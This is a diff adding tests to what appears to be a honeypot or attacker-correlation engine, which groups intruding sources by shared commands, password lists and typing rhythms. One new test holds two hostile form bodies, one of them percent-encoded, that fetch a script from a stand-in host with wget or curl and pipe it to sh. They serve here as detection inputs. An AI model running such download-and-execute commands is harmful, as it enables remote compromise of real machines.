@@ -42,6 +42,13 @@ def test_commands_name_urls(engine: Engine) -> None:
     assert several(engine) == groups([A, B])
 
 
+def test_what_is_sent_to_a_form_names_urls_also_percent_encoded(engine: Engine) -> None:
+    bodies = ("cmd=wget%20http%3A%2F%2F203.0.113.9%2Fown%2Frun%3B+sh+run", "cmd=curl http://203.0.113.9/own/run | sh")
+    requests = [HttpRequest(method="POST", target="/cgi-bin/x", body=body) for body in bodies]
+    Follower(engine).run([event(A, requests[0]), event(B, requests[1]), event(C, command("wget -h"))])
+    assert several(engine) == groups([A, B])
+
+
 def test_a_rhythm_that_is_played_back_joins_but_one_that_many_have_does_not(engine: Engine) -> None:
     played = TypingDigest(60, 0, 6, 2, (0, 0, 3, 20, 25, 6, 1), (0, 0, 0, 0, 0, 0, 1, 2, 2))
     sent_at_once = TypingDigest(0, 40, 40, 0, (38,), (39,))
@@ -58,6 +65,15 @@ def test_passwords_of_ones_own_list_add_up_though_no_two_addresses_try_the_same_
     follower = Follower(engine).run([*crowd, *known, *tried])
     follower.run([event(D, own[number], 60) for number in range(0, 12, 2)])
     assert several(engine) == groups([A, B, C, D])
+
+
+def test_those_who_walk_a_list_that_many_have_are_not_one_though_few_come_equally_far(engine: Engine) -> None:
+    walkers = [f"198.51.{number}.7" for number in range(36)]
+    listed = [password(f"user{number}", f"listed-{number}") for number in range(20)]
+    crowd = [event(f"10.{number >> 8}.{number & 255}.1", hassh(f"{number:032x}")) for number in range(900)]
+    walks = [event(each, one, place) for place, each in enumerate(walkers) for one in listed[: 6 + place % 14]]
+    Follower(engine).run([*crowd, *walks])
+    assert several(engine) == set()
 
 
 def test_buyers_of_one_loader_are_not_one(engine: Engine) -> None:
